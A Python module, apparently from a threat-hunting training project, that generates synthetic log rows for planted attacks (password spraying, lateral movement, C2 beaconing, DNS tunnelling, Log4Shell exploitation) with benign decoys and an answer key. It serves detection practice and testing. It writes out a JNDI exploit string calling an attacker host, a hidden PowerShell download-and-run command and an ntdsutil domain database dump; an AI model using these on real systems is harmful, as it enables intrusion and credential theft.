"""Planted attacks (and a few benign look-alikes) with the answer key the tests and hunting notebooks check.

A fixed number of rows per scenario, whatever the dataset's size: at 10^4 events they stand out a little, at
10^8 they are needles. Everything here is a function of (seed, days, population), so the same key can be
recomputed without reading the data (`answer_key`).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field

import numpy as np
import pyarrow as pa

from hunthub.data import draw
from hunthub.data.population import DOMAIN, Population
from hunthub.data.process import sha256_of
from hunthub.data.tables import ALL, TS

MIN = 60_000_000  # microseconds
SEC = 1_000_000
LOG4SHELL = ("CVE-2021-44228", 10.0, "Apache Log4j2 JNDI lookup remote code execution (Log4Shell)")
NOT_USERS = ["admin", "test", "guest", "scanner", "helpdesk"]  # sprayers try these too: "unknown user"
C2_UA = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"


@dataclass
class Planted:
    rows: dict[str, list[dict]] = field(default_factory=dict)
    key: dict = field(default_factory=dict)
    indicators: list[dict] = field(default_factory=list)  # threat_intel rows the scenarios need
    findings: list[dict] = field(default_factory=list)  # vuln_findings the scenarios need (per scan)

    def add(self, table: str, **row) -> None:
        self.rows.setdefault(table, []).append(row)

    def tables(self) -> dict[str, pa.Table]:
        return {name: to_table(name, rows) for name, rows in self.rows.items()}

    def counts(self) -> dict[str, int]:
        return {name: len(rows) for name, rows in self.rows.items()}


def to_table(name: str, rows: list[dict]) -> pa.Table:
    spec = ALL[name]
    cols = {}
    for c in spec.columns:
        values = [r.get(c.name) for r in rows]
        cols[c.name] = pa.array(values, pa.int64()).cast(TS) if c.type == TS else pa.array(values, c.type)
    return pa.table(cols, schema=spec.schema)


def _window(first_us: int, last_us: int) -> dict:
    return {"start": draw.iso(first_us), "end": draw.iso(last_us)}


class _Net:
    """Connections for planted traffic: zeek_conn rows plus their dns / http rows with the same uid."""

    def __init__(self, planted: Planted, rng: np.random.Generator):
        self.p, self.rng = planted, rng

    def conn(self, ts, orig_h, resp_h, resp_p, service, *, proto="tcp", duration=0.5, ob=300, rb=500, state="SF"):
        uid = draw.uids(self.rng, 1)[0].as_py()
        orig_p = int(self.rng.integers(49152, 65536))
        ids = dict(ts=ts, uid=uid, orig_h=orig_h, orig_p=orig_p, resp_h=resp_h, resp_p=resp_p)
        self.p.add("zeek_conn", **ids, proto=proto, service=service, duration=duration, orig_bytes=ob,
                   resp_bytes=rb, conn_state=state)  # fmt: skip
        return ids

    def dns(self, ts, orig_h, resolver, query, qtype, answers, rb=120):
        c = self.conn(ts, orig_h, resolver, 53, "dns", proto="udp", duration=0.01, ob=len(query) + 30, rb=rb)
        self.p.add("zeek_dns", **c, proto="udp", query=query, qtype_name=qtype, rcode_name="NOERROR", answers=answers)
        return c

    def http(self, ts, orig_h, resp_h, port, host, uri, ua, *, method="GET", status=200, req=0, resp=512, dur=0.3):
        c = self.conn(ts, orig_h, resp_h, port, "http", duration=dur, ob=req + 250, rb=resp + 200)
        self.p.add("zeek_http", **c, method=method, host=host, uri=uri, user_agent=ua, status_code=status,
                   request_body_len=req, response_body_len=resp)  # fmt: skip
        return c


def _auth(p: Planted, pop: Population, ts, event_id, user, logon_type, package, src, dst, reason=None):
    p.add("auth_events", event_time=ts, event_id=event_id, outcome="failure" if event_id == 4625 else "success",
          user=user, domain=DOMAIN, logon_type=logon_type, auth_package=package, src_host=src,
          src_ip=pop.ip_of(src), dst_host=dst, failure_reason=reason, dst_ip=pop.ip_of(dst))  # fmt: skip


def _proc(p: Planted, ts, host, user, process, parent, command, sha256=None):
    p.add("process_events", event_time=ts, event_id=4688, host=host, user=user, domain=DOMAIN, process_name=process,
          parent_process_name=parent, command_line=command, sha256=sha256 or sha256_of(process))  # fmt: skip


def _domain(rng: np.random.Generator, words1, words2, tlds, taken: set[str]) -> str:
    while True:
        name = f"{rng.choice(words1)}-{rng.choice(words2)}.{rng.choice(tlds)}"
        if name not in taken:
            taken.add(name)
            return name


def _public_ip(rng: np.random.Generator, firsts, taken: set[str]) -> str:
    while True:
        ip = f"{rng.choice(firsts)}.{rng.integers(1, 255)}.{rng.integers(1, 255)}.{rng.integers(1, 255)}"
        if ip not in taken:
            taken.add(ip)
            return ip


def plant(pop: Population, seed: int, days: int) -> Planted:
    rng = np.random.default_rng([seed, 7])
    p = Planted()
    net = _Net(p, rng)
    day = lambda k: draw.day_start_us(min(k, days - 1))  # noqa: E731 - scenario days fold into short windows
    end_us = draw.day_start_us(days) - MIN
    people_ws = [h for h in range(pop.n_workstations) if pop.host_owner[h] in pop.user_index]
    spray_ws, lateral_ws, hop_ws, beacon_ws, tunnel_ws, stale_ws = (
        int(h) for h in rng.choice(people_ws, 6, replace=False)
    )
    names = set(pop.names)
    ips = set(pop.name_ip)
    dc1, dc1_ip, dc2_ip = "DC-01", pop.ip_of("DC-01"), pop.ip_of("DC-02")

    # --- password spraying: one workstation, two rounds of one password against many accounts ---------------
    people = [u for u in pop.users if u[:4] not in ("svc_", "adm_")]
    stale_user = pop.host_owner[stale_ws]
    sprayed = sorted(str(u) for u in rng.choice([u for u in people if u != stale_user], 30, replace=False))
    src = pop.hosts[spray_ws]
    t = day(1) + 2 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first = t
    compromised = sprayed[int(rng.integers(0, len(sprayed)))]
    for round_ in range(2):
        for user in [*sprayed, *NOT_USERS]:
            t += int(rng.integers(15, 40)) * SEC
            if round_ == 1 and user == compromised:
                _auth(p, pop, t, 4624, user, 3, "NTLM", src, dc1)
                continue
            reason = "unknown user" if user in NOT_USERS else "bad password"
            _auth(p, pop, t, 4625, user, 3, "NTLM", src, dc1, reason)
        t += 25 * MIN  # between rounds: stay under the lockout threshold's observation window
    p.key["password_spraying"] = {
        "technique": "T1110.003",
        "name": "Password spraying",
        "window": _window(first, t),
        "source_host": src,
        "source_ip": pop.host_ip[spray_ws],
        "target_host": dc1,
        "sprayed_accounts": sprayed,
        "unknown_accounts": sorted(NOT_USERS),
        "attempts_per_account": 2,
        "failures": 2 * (len(sprayed) + len(NOT_USERS)) - 1,
        "compromised_account": compromised,
        "expect": "one source fails for many accounts (>= 30) with at most 2 failures each, in about an hour",
    }

    # --- lateral movement: stolen admin credentials, workstation -> workstation -> server -> DC -------------
    account = str(rng.choice(["adm_jsmith", "adm_kcohen"]))
    path = [
        (pop.hosts[lateral_ws], pop.hosts[hop_ws], "smb", 445, 3),
        (pop.hosts[hop_ws], "SQL-01", "rdp", 3389, 10),
        ("SQL-01", "DC-02", "smb", 445, 3),
    ]
    t = day(2) + 10 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first, hops = t, []
    for i, (a, b, proto, port, logon_type) in enumerate(path):
        rdp = proto == "rdp"
        c = net.conn(t, pop.ip_of(a), pop.ip_of(b), port, proto, duration=1800.0 if rdp else 40.0,
                     ob=2_500_000 if rdp else 90_000, rb=9_000_000 if rdp else 60_000)  # fmt: skip
        _auth(p, pop, t + SEC, 4624, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        _auth(p, pop, t + SEC + 1000, 4672, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        if rdp:
            _proc(p, t + 5 * SEC, b, account, "rdpclip.exe", "svchost.exe", "rdpclip")
            _proc(p, t + 90 * SEC, b, account, "cmd.exe", "explorer.exe", "cmd.exe")
            _proc(p, t + 120 * SEC, b, account, "nltest.exe", "cmd.exe", "nltest /dclist:corp")
        else:
            _proc(p, t + 3 * SEC, b, "SYSTEM", "PSEXESVC.exe", "services.exe", "C:\\Windows\\PSEXESVC.exe")
            command = (
                'cmd.exe /c net group "Domain Admins" /domain'
                if i == 0
                else 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q'
            )
            _proc(p, t + 5 * SEC, b, account, command.split()[0].removesuffix(".exe") + ".exe", "PSEXESVC.exe", command)
        _auth(p, pop, t + (1800 if rdp else 40) * SEC, 4634, account, logon_type, "Negotiate" if rdp else "NTLM", a, b)
        hops.append({"src_host": a, "src_ip": pop.ip_of(a), "dst_host": b, "dst_ip": pop.ip_of(b), "protocol": proto,
                     "port": port, "logon_type": logon_type, "time": draw.iso(t + SEC), "uid": c["uid"]})  # fmt: skip
        t += int(rng.integers(15, 40)) * MIN
    p.key["lateral_movement"] = {
        "technique": ["T1021.002", "T1021.001"],
        "name": "Lateral movement over SMB and RDP with stolen admin credentials",
        "window": _window(first, t),
        "account": account,
        "compromised_workstation": path[0][0],
        "compromised_ip": pop.ip_of(path[0][0]),
        "path": hops,
        "hosts": [path[0][0], *[h[1] for h in path]],
        "expect": "4624 logon type 3 (SMB) / 10 (RDP) hop by hop from the compromised workstation, matching "
        "zeek_conn 445 / 3389, PSEXESVC.exe and ntdsutil.exe in process_events",
    }

    # --- C2 beaconing over HTTP to a TI-listed domain ------------------------------------------------------
    c2 = _domain(rng, ["cdn", "telemetry", "update", "sync", "metrics"], ["nodes", "relay", "edge", "hub"],
                 ["net", "xyz", "top", "io"], names)  # fmt: skip
    c2_ip = _public_ip(rng, [185, 45, 91], ips)
    host, host_ip = pop.hosts[beacon_ws], pop.host_ip[beacon_ws]
    interval, jitter = 600, 30
    t = day(2) + 9 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    stop = min(t + 36 * 3600 * SEC, end_us)
    implant = ("msupdate.exe", sha256_of("msupdate.exe", f"implant-{seed}"))
    user = pop.host_owner[beacon_ws]
    _proc(p, t - 2 * MIN, host, user, implant[0], "explorer.exe",
          f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\msupdate.exe -k", implant[1])  # fmt: skip
    first, beacons, lookups, uri = t, 0, 0, f"/api/v2/check?id={rng.integers(10**7, 10**8)}"
    while t < stop:
        if beacons % 6 == 0:  # the implant resolves its C2 about hourly (DNS TTL), not before every beacon
            net.dns(t - 50_000, host_ip, dc1_ip, c2, "A", c2_ip)
            lookups += 1
        net.http(t, host_ip, c2_ip, 80, c2, uri, C2_UA, resp=int(rng.integers(60, 68)), req=0)
        beacons += 1
        last = t
        t += (interval + int(rng.integers(-jitter, jitter + 1))) * SEC
    p.key["c2_beaconing"] = {
        "technique": "T1071.001",
        "name": "C2 beaconing over HTTP to a threat-intel listed domain",
        "window": _window(first, last),
        "host": host,
        "host_ip": host_ip,
        "domain": c2,
        "ip": c2_ip,
        "port": 80,
        "interval_seconds": interval,
        "jitter_seconds": jitter,
        "beacons": beacons,
        "dns_lookups": lookups,
        "uri": uri,
        "user_agent": C2_UA,
        "implant": {"process_name": implant[0], "sha256": implant[1]},
        "expect": f"{beacons} HTTP requests host -> domain every {interval}s +- {jitter}s; domain and implant hash "
        "in threat_intel",
    }
    valid_from = draw.day_start_us(0) - 5 * 86_400 * SEC
    p.indicators += [
        dict(indicator=c2, indicator_type="domain", threat="C2 (HTTP beacon)", source="isac-share", confidence=85,
             valid_from=valid_from, valid_until=valid_from + 90 * 86_400 * SEC),
        dict(indicator=c2_ip, indicator_type="ip", threat="C2 server", source="feodo-tracker", confidence=75,
             valid_from=valid_from, valid_until=valid_from + 30 * 86_400 * SEC),
        dict(indicator=implant[1], indicator_type="sha256", threat="implant (HTTP beacon)", source="vendor-av",
             confidence=95, valid_from=valid_from, valid_until=valid_from + 365 * 86_400 * SEC),
    ]  # fmt: skip

    # --- DNS tunnelling: data out in long random TXT query names to a domain nobody lists -------------------
    tunnel = _domain(rng, ["res", "lookup", "ns", "query"], ["cache", "check", "route", "zone"],
                     ["com", "net", "org"], names)  # fmt: skip
    host, host_ip = pop.hosts[tunnel_ws], pop.host_ip[tunnel_ws]
    t = day(4) + 21 * 3600 * SEC + int(rng.integers(0, 30)) * MIN
    first, queries, chars, raw = t, 240, 0, 0
    for i in range(queries):
        chunk = bytes(rng.integers(0, 256, 35, dtype=np.uint8))
        label = base64.b32encode(chunk).decode().lower().rstrip("=")
        query = f"{label}.{i:04x}.{tunnel}"
        net.dns(t, host_ip, dc1_ip if i % 2 == 0 else dc2_ip, query, "TXT", base64.b64encode(chunk[:12]).decode())
        chars, raw = chars + len(label), raw + len(chunk)
        last = t
        t += int(rng.integers(10, 20)) * SEC
    p.key["dns_tunnelling"] = {
        "technique": ["T1048.003", "T1071.004"],
        "name": "Exfiltration by DNS tunnelling",
        "window": _window(first, last),
        "host": host,
        "host_ip": host_ip,
        "domain": tunnel,
        "queries": queries,
        "qtype": "TXT",
        "subdomain_chars": chars,
        "exfiltrated_bytes": raw,
        "label_length": 56,
        "in_threat_intel": False,
        "expect": f"{queries} TXT queries with a 56-character base32 (high entropy) label under one domain "
        "from one host in about an hour",
    }

    # --- exploitation of the internet-facing app server with a critical CVE (Log4Shell) ----------------------
    victim, victim_ip = "WEB-02", pop.ip_of("WEB-02")
    attacker = _public_ip(rng, [185, 45, 91], ips)
    t = day(3) + 14 * 3600 * SEC + int(rng.integers(0, 60)) * MIN
    first = t
    for port in (21, 22, 23, 80, 443, 445, 3389, 8000, 8080, 8443):  # a port scan first
        net.conn(t, attacker, victim_ip, port, None, duration=0.0, ob=0, rb=0, state="SF" if port == 8080 else "REJ")
        t += 200_000
    t += 3 * MIN
    jndi = f"${{jndi:ldap://{attacker}:1389/Exploit}}"
    exploit = net.http(t, attacker, victim_ip, 8080, "portal.corp.example", "/portal/login", jndi)
    callback = net.conn(t + 2 * SEC, victim_ip, attacker, 1389, "ldap", duration=1.2, ob=180, rb=2400)
    payload_url = f"http://{attacker}/payload/ups.exe"
    ps_agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"
    download = net.http(t + 40 * SEC, victim_ip, attacker, 80, attacker, "/payload/ups.exe", ps_agent, resp=73_802)
    payload = ("ups.exe", sha256_of("ups.exe", f"payload-{seed}"))
    procs = [
        (30, "cmd.exe", "java.exe", f'cmd.exe /c powershell -nop -w hidden -c "iwr {payload_url} -OutFile '
         f'C:\\Windows\\Temp\\ups.exe"', None),
        (31, "powershell.exe", "cmd.exe", f"powershell -nop -w hidden -c iwr {payload_url} -OutFile "
         "C:\\Windows\\Temp\\ups.exe", None),
        (60, "ups.exe", "powershell.exe", "C:\\Windows\\Temp\\ups.exe", payload[1]),
        (75, "whoami.exe", "ups.exe", "whoami /all", None),
    ]  # fmt: skip
    for dt, name, parent, command, sha in procs:
        _proc(p, t + dt * SEC, victim, "SYSTEM", name, parent, command, sha)
    p.key["exploitation"] = {
        "technique": "T1190",
        "name": "Exploitation of a public-facing application with a critical CVE",
        "window": _window(first, t + 75 * SEC),
        "host": victim,
        "ip": victim_ip,
        "cve": LOG4SHELL[0],
        "cvss": LOG4SHELL[1],
        "port": 8080,
        "attacker_ip": attacker,
        "exploit_uid": exploit["uid"],
        "exploit_time": draw.iso(t),
        "callback": {"port": 1389, "uid": callback["uid"]},
        "payload": {"url": payload_url, "process_name": payload[0], "sha256": payload[1], "uid": download["uid"]},
        "processes": [name for _, name, *_ in procs],
        "expect": "the host has the CVE open in vuln_findings; a JNDI lookup in zeek_http user_agent from the "
        "attacker; the host then connects out to the attacker (1389 / 80); java.exe spawns cmd.exe",
    }
    p.indicators += [
        dict(indicator=attacker, indicator_type="ip", threat="scanner / Log4Shell exploitation", source="urlhaus",
             confidence=60, valid_from=valid_from, valid_until=valid_from + 60 * 86_400 * SEC),
        dict(indicator=payload[1], indicator_type="sha256", threat="loader", source="vendor-av", confidence=90,
             valid_from=valid_from, valid_until=valid_from + 365 * 86_400 * SEC),
    ]  # fmt: skip
    # Also vulnerable but never attacked: matching scans alone to the CVE is not the finding.
    for h, port in ((victim, 8080), ("WEB-01", 8443)):
        p.findings.append(dict(host=h, ip=pop.ip_of(h), cve=LOG4SHELL[0], cvss=LOG4SHELL[1], port=port,
                               title=LOG4SHELL[2], first_seen=draw.day_start_us(0) - 40 * 86_400 * SEC))  # fmt: skip

    # --- benign look-alikes, so a naive query finds more than the attacks ------------------------------------
    stale_src = pop.hosts[stale_ws]
    t = day(0) + 8 * 3600 * SEC + 30 * MIN
    targets = ["DC-01", "DC-02", "FS-01", "SQL-01", "WEB-01", "EXCH-01", "JUMP-01"]
    for rep in range(2):
        for dst in targets:
            _auth(p, pop, t, 4625, stale_user, 3, "Kerberos", stale_src, dst, "bad password")
            t += int(rng.integers(20, 90)) * SEC
        t += 10 * MIN * (rep + 1)
    _auth(p, pop, t, 4624, stale_user, 2, "Negotiate", stale_src, stale_src)
    svc_t = day(0)
    for hour in range(24):
        _auth(p, pop, svc_t + hour * 3600 * SEC + 5 * MIN, 4625, "svc_backup", 5, "Negotiate", "FS-01", "FS-01",
              "bad password")  # fmt: skip
    p.key["benign"] = {
        "stale_password": {"user": stale_user, "host": stale_src, "failed_against": sorted(targets),
                           "why": "password changed; saved sessions retry the old one on every server"},
        "service_account": {"user": "svc_backup", "host": "FS-01", "failures": 24,
                            "why": "a scheduled task with an old password, hourly"},
        "unexploited_vulnerable_host": {"host": "WEB-01", "cve": LOG4SHELL[0]},
    }  # fmt: skip
    return p
